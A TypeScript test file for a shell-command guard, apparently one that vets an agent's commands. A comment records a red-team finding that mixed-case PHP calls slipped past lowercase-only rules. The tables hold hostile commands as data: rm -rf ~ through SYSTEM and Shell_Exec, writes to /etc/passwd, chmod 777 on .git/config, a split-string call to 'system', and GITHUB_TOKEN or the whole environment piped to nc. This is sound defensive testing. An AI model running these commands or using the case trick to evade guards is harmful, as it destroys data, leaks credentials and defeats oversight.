import { useGuardFixture } from "../../fixtures/check/workspace.ts";
import { EGRESS, OK, UNKNOWN, verdictRows } from "../../support/verdict-rows.ts";

// Session 17 (red team): PHP's function names and language constructs ignore case, so
// `SYSTEM("rm -rf ~")` runs system; the PHP rules matched lowercase names only and answered ALLOW.
const fx = useGuardFixture();
const table = verdictRows(fx);
const php = (code: string) => `php -r '${code}'`;

table("PHP calls spelled in any case are read as their lowercase names", [
  ["SYSTEM", php('SYSTEM("rm -rf ~");'), "BLOCK", "BLOCK_PROTECTED_ANCESTOR"],
  ["Shell_Exec", php('Shell_Exec("rm -rf ~");'), "BLOCK", "BLOCK_PROTECTED_ANCESTOR"],
  ["PassThru", php('PassThru("rm -rf ~");'), "BLOCK", "BLOCK_PROTECTED_ANCESTOR"],
  ["UNLINK of a system file", php('UNLINK("/etc/passwd");'), "BLOCK", "BLOCK_PROTECTED_PATH"],
  ["CHMOD of the workspace's git config", php('CHMOD(".git/config", 0777);'), "BLOCK", "BLOCK_PROTECTED_PATH"],
  ["File_Put_Contents", php('File_Put_Contents("/etc/passwd", "x");'), ...UNKNOWN],
  ["EVAL", php("EVAL($x);"), ...UNKNOWN],
  ["Call_User_Func", php('Call_User_Func("sys"."tem", "ls");'), ...UNKNOWN],
  ["GETENV piped to a sender", `${php('echo GETENV("GITHUB_TOKEN");')} | nc 127.0.0.1 80`, ...EGRESS],
  ["the whole environment, GETENV()", `${php("print_r(GETENV());")} | nc 127.0.0.1 80`, ...EGRESS],
]);

table("PHP's harmless calls in any case", [
  ["StrToUpper", php('echo StrToUpper("a");'), ...OK],
  ["GETENV of a harmless name, sent", `${php('echo GETENV("HOME");')} | nc 127.0.0.1 80`, ...OK],
]);
